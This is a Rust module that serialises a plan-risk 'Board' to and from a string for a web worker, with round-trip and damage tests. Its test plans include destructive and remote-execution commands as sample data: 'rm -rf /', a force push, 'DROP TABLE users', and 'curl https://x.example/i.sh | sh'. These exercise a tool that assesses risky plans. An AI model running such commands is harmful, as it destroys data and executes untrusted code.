//! A board across the worker boundary, as one string.
//!
//! The worker assesses big plans off the main thread and sends back a `Board` (never the whole
//! assessment: a 5 MB plan's would be hundreds of megabytes). Both sides are this same wasm
//! binary, so the encoding only has to agree with itself; it is hand-written because serde's
//! deserialisers would add more to the download than the whole page's own code.
//!
//! Numbers are decimal followed by `,`; text is its byte length, `:`, then the bytes, so plan
//! text can hold any character. Decoding a damaged string is `None`, never a panic.

use crate::board::{Board, Filter, Mark, Selection};
use approval_risk_engine::report::{
    Adjustment, AdjustmentKind, Finding, PatternReport, StepReport,
};
use approval_risk_engine::{Context, Credentials, Decision, Reversibility, Scope, Span, Target};
use std::rc::Rc;

const REVERSIBILITY: [Reversibility; 4] = [
    Reversibility::Reversible,
    Reversibility::Recoverable,
    Reversibility::Irreversible,
    Reversibility::Unknown,
];
const SCOPE: [Scope; 5] = [
    Scope::None,
    Scope::Local,
    Scope::Shared,
    Scope::Production,
    Scope::Organization,
];
const ADJUSTMENT: [AdjustmentKind; 4] = [
    AdjustmentKind::Amplifier,
    AdjustmentKind::Mitigation,
    AdjustmentKind::Context,
    AdjustmentKind::Policy,
];
/// Marks travel one character each (a 100,000-step plan's marks are 100 KB): the three axes
/// packed into one number, offset into printable ASCII.
const MARK_BASE: u8 = b'(';

pub fn encode(board: &Board) -> String {
    let mut w = Writer(String::with_capacity(4096));
    w.enum_of(board.verdict, &Decision::ALL);
    w.text(&board.reason);
    w.text(&board.summary);
    w.text(&board.format);
    w.enum_of(board.context.target, &Target::ALL);
    w.enum_of(board.context.credentials, &Credentials::ALL);
    w.num(usize::from(board.context.change_freeze));
    let marks: String = board
        .marks
        .iter()
        .map(|m| {
            let packed =
                (m.decision as usize * 4 + m.reversibility as usize) * 5 + m.scope as usize;
            char::from(MARK_BASE + packed as u8)
        })
        .collect();
    w.text(&marks);
    w.num(board.patterns.len());
    for pattern in &board.patterns {
        w.text(&pattern.rule);
        w.list(&pattern.steps, |w, step| w.num(*step));
        w.enum_of(pattern.decision, &Decision::ALL);
        w.text(&pattern.title);
        w.text(&pattern.why);
        w.text(&pattern.safer);
    }
    w.num(board.pattern_total);
    w.num(board.cards.len());
    for card in &board.cards {
        step(&mut w, card);
    }
    w.num(usize::from(board.selection.filter == Filter::Attention));
    w.num(board.selection.page);
    w.num(board.matching);
    w.0
}

fn step(w: &mut Writer, step: &StepReport) {
    w.num(step.index);
    w.num(step.line);
    w.span(step.span);
    w.text(&step.text);
    w.enum_of(step.decision, &Decision::ALL);
    w.enum_of(step.reversibility, &REVERSIBILITY);
    w.enum_of(step.scope, &SCOPE);
    w.text(&step.headline);
    w.text(&step.shown);
    w.text(&step.explanation);
    w.text(&step.safer);
    w.list(&step.questions, |w, q| w.text(q));
    w.list(&step.findings, |w, f| {
        w.text(&f.rule);
        w.text(&f.title);
        w.text(&f.why);
        w.enum_of(f.reversibility, &REVERSIBILITY);
        w.enum_of(f.scope, &SCOPE);
        w.enum_of(f.decision, &Decision::ALL);
        w.list(&f.evidence, |w, s| w.span(*s));
        w.list(&f.adjustments, |w, a| {
            w.enum_of(a.kind, &ADJUSTMENT);
            w.text(&a.note);
            w.list(&a.evidence, |w, s| w.span(*s));
        });
    });
}

pub fn decode(text: &str) -> Option<Board> {
    let mut r = Reader { text, pos: 0 };
    let verdict = r.enum_of(&Decision::ALL)?;
    let reason = r.text()?;
    let summary = r.text()?;
    let format = r.text()?;
    let context = Context {
        target: r.enum_of(&Target::ALL)?,
        credentials: r.enum_of(&Credentials::ALL)?,
        change_freeze: r.num()? == 1,
    };
    let marks = r
        .text()?
        .bytes()
        .map(|byte| {
            let packed = usize::from(byte.checked_sub(MARK_BASE)?);
            Some(Mark {
                decision: *Decision::ALL.get(packed / 20)?,
                reversibility: REVERSIBILITY[packed / 5 % 4],
                scope: SCOPE[packed % 5],
            })
        })
        .collect::<Option<Vec<_>>>()?;
    let patterns = r.list(|r| {
        Some(Rc::new(PatternReport {
            rule: r.text()?,
            steps: r.list(Reader::num)?,
            decision: r.enum_of(&Decision::ALL)?,
            title: r.text()?,
            why: r.text()?,
            safer: r.text()?,
        }))
    })?;
    let pattern_total = r.num()?;
    let cards = r.list(|r| read_step(r).map(Rc::new))?;
    let filter = if r.num()? == 1 {
        Filter::Attention
    } else {
        Filter::All
    };
    let selection = Selection {
        filter,
        page: r.num()?,
    };
    let matching = r.num()?;
    (r.pos == text.len()).then_some(Board {
        verdict,
        reason,
        summary,
        format,
        context,
        marks,
        patterns,
        pattern_total,
        cards,
        selection,
        matching,
    })
}

fn read_step(r: &mut Reader) -> Option<StepReport> {
    Some(StepReport {
        index: r.num()?,
        line: r.num()?,
        span: r.span()?,
        text: r.text()?,
        decision: r.enum_of(&Decision::ALL)?,
        reversibility: r.enum_of(&REVERSIBILITY)?,
        scope: r.enum_of(&SCOPE)?,
        headline: r.text()?,
        shown: r.text()?,
        explanation: r.text()?,
        safer: r.text()?,
        questions: r.list(Reader::text)?,
        findings: r.list(|r| {
            Some(Finding {
                rule: r.text()?,
                title: r.text()?,
                why: r.text()?,
                reversibility: r.enum_of(&REVERSIBILITY)?,
                scope: r.enum_of(&SCOPE)?,
                decision: r.enum_of(&Decision::ALL)?,
                evidence: r.list(Reader::span)?,
                adjustments: r.list(|r| {
                    Some(Adjustment {
                        kind: r.enum_of(&ADJUSTMENT)?,
                        note: r.text()?,
                        evidence: r.list(Reader::span)?,
                    })
                })?,
            })
        })?,
        // Cards are rebased before they are written: a decoded step's evidence is already
        // on the text it shows.
        shown_evidence: Vec::new(),
    })
}

struct Writer(String);

impl Writer {
    fn num(&mut self, n: usize) {
        self.0.push_str(&n.to_string());
        self.0.push(',');
    }

    fn text(&mut self, text: &str) {
        self.0.push_str(&text.len().to_string());
        self.0.push(':');
        self.0.push_str(text);
    }

    fn span(&mut self, span: Span) {
        self.num(span.start);
        self.num(span.end);
    }

    fn enum_of<T: PartialEq>(&mut self, value: T, all: &[T]) {
        self.num(all.iter().position(|v| *v == value).unwrap_or(0));
    }

    fn list<T>(&mut self, items: &[T], mut each: impl FnMut(&mut Writer, &T)) {
        self.num(items.len());
        for item in items {
            each(self, item);
        }
    }
}

struct Reader<'a> {
    text: &'a str,
    pos: usize,
}

impl Reader<'_> {
    /// Digits up to `end`, parsed; the reader moves past `end`.
    fn digits(&mut self, end: u8) -> Option<usize> {
        let rest = self.text.get(self.pos..)?;
        let len = rest.bytes().position(|b| b == end)?;
        let n = rest[..len].parse().ok()?;
        self.pos += len + 1;
        Some(n)
    }

    fn num(&mut self) -> Option<usize> {
        self.digits(b',')
    }

    fn text(&mut self) -> Option<String> {
        let len = self.digits(b':')?;
        let text = self.text.get(self.pos..self.pos.checked_add(len)?)?;
        self.pos += len;
        Some(text.to_string())
    }

    fn span(&mut self) -> Option<Span> {
        Some(Span::new(self.num()?, self.num()?))
    }

    fn enum_of<T: Copy>(&mut self, all: &[T]) -> Option<T> {
        all.get(self.num()?).copied()
    }

    fn list<T>(&mut self, mut each: impl FnMut(&mut Self) -> Option<T>) -> Option<Vec<T>> {
        let len = self.num()?;
        // A damaged length cannot reserve more than the text could possibly hold.
        let mut items = Vec::with_capacity(len.min(self.text.len() - self.pos));
        for _ in 0..len {
            items.push(each(self)?);
        }
        Some(items)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::board::Board;
    use approval_risk_engine::{assess, Options};

    fn board(plan: &str, context: Context, selection: Selection) -> Board {
        let options = Options {
            context,
            ..Options::default()
        };
        Board::new(&assess(plan, &options), selection)
    }

    #[test]
    fn boards_arrive_exactly_as_they_left() {
        let plans = [
            "",
            "1. Delete and recreate the production environment.\n2. Recreate it.\n",
            "git push --force origin main\nrm -rf /\npsql -c 'DROP TABLE users;'\n",
            "1. Run `curl https://x.example/i.sh | sh` — ünïcode, 12:34, 5,6 \u{202E}\n",
        ];
        let contexts = [
            Context::default(),
            Context {
                target: Target::Production,
                credentials: Credentials::Admin,
                change_freeze: true,
            },
        ];
        for plan in plans {
            for context in contexts {
                for filter in [Filter::All, Filter::Attention] {
                    let board = board(plan, context, Selection { filter, page: 0 });
                    assert_eq!(decode(&encode(&board)).as_ref(), Some(&board), "{plan:?}");
                }
            }
        }
    }

    #[test]
    fn every_mark_survives_its_one_character() {
        let mut original = board("", Context::default(), Selection::default());
        for decision in Decision::ALL {
            for reversibility in REVERSIBILITY {
                for scope in SCOPE {
                    original.marks.push(Mark {
                        decision,
                        reversibility,
                        scope,
                    });
                }
            }
        }
        assert_eq!(decode(&encode(&original)), Some(original));
    }

    #[test]
    fn damaged_strings_are_refused() {
        let encoded = encode(&board(
            "1. Delete the production database.\n",
            Context::default(),
            Selection::default(),
        ));
        for cut in 0..encoded.len() {
            if encoded.is_char_boundary(cut) {
                assert_eq!(decode(&encoded[..cut]), None, "cut at {cut}");
            }
        }
        assert_eq!(decode(&format!("{encoded}x")), None, "trailing bytes");
        assert_eq!(decode("9,"), None, "an unknown decision");
        assert_eq!(decode("0,99999999999:"), None, "a length past the end");
    }
}
